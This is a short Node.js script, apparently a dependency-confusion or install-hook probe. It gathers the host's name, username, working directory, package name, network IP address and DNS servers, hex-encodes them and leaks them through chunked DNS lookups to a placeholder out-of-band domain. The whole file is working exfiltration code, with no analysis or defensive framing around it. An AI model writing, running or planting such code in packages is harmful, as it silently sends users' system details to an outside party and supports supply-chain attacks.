const os = require('os');
const dns = require('dns');
const pkg = require('./package.json');

const zone = 'oast.example.com';
const id = Math.random().toString(36).slice(2, 8);
const info = [
  os.hostname(),
  os.userInfo().username,
  process.cwd(),
  pkg.name,
  (os.networkInterfaces().eth0 || [{}])[0].address || '',
  (dns.getServers() || []).join(',')
].join('|');

// hex-encode and chunk into 60-char labels so the data survives recursive resolvers
const hex = Buffer.from(info).toString('hex');
const chunks = hex.match(/.{1,60}/g) || [];
chunks.forEach((c, i) => {
  const q = `${c}.${i}.${chunks.length}.${id}.${zone}`;
  dns.lookup(q, () => {});
  dns.resolve4(q, () => {});
});
